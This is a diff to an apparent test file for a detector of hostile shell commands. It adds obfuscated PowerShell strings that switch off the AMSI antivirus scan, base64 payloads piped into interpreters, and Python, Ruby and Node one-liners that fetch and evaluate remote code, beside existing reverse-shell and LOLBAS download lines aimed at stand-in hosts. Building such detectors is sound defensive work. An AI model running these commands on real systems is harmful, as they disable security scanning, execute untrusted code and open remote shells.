@@ -45,6 +45,9 @@ const WINDOWS = [
   'mshta vbscript:CreateObject("WScript.Shell").Run("calc")(window.close)',
   'powershell -enco SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA=',
   "mshta about:\"<script>new ActiveXObject('WScript.Shell').Run('calc')</script>\"",
+  // The scan switched off with its class's name spelt out of pieces.
+  "$w='System.Management.Automation.A';$c='si';$m='Utils';[Ref].Assembly.GetType(('{0}m{1}{2}' -f $w,$c,$m))",
+  '(Get-Variable x -ValueOnly)."A`ss`Embly"."GET`TY`Pe"(("{2}{0}{1}" -f \'Amsi\',\'Utils\',\'System.Management.Automation.\'))',
   // Programs the LOLBAS catalogue lists fetching from afar, in its own examples' shapes.
   'esentutl.exe /y \\\\share.example\\tools\\a.exe /d %TEMP%\\a.exe /o',
   'MpCmdRun.exe -DownloadFile -url https://x.example/a.exe -path C:\\Users\\Public\\a.exe',
@@ -81,6 +84,12 @@ const TERMINAL = [
   'curl -O https://x.example/stage.sh',
   'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
   'nc -e /bin/sh 203.0.113.9 4444',
+  // A decoder feeding an interpreter; a download substituted into one; Ruby and Node evaluating it.
+  'echo cHJpbnQoMSk= | base64 -d | python3',
+  'echo ZWNobyBoaQ== | base64 -di | sh',
+  'python3 <(curl -s https://x.example/p.py)',
+  'ruby -ropen-uri -e \'eval URI.open("https://x.example/r").read\'',
+  "node -e \"require('https').get('https://x.example/n',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\"",
 ];
 /** Install commands docs show openly: commands that fetch and run code all the same. */
 const DOCS_COMMANDS = [
@@ -142,6 +151,8 @@ const NOT_COMMANDS = [
   'wget https://example.com/x.tar.gz && tar xzf x.tar.gz',
   'curl -LO https://github.com/x/y/releases/download/v1/y.tar.gz',
   'nc -zv example.com 443',
+  'echo aGVsbG8= | base64 -d',
+  '$PSVersionTable.PSVersion.GetType().Assembly.Location',
 ];
 
 describe('the command recogniser', () => {
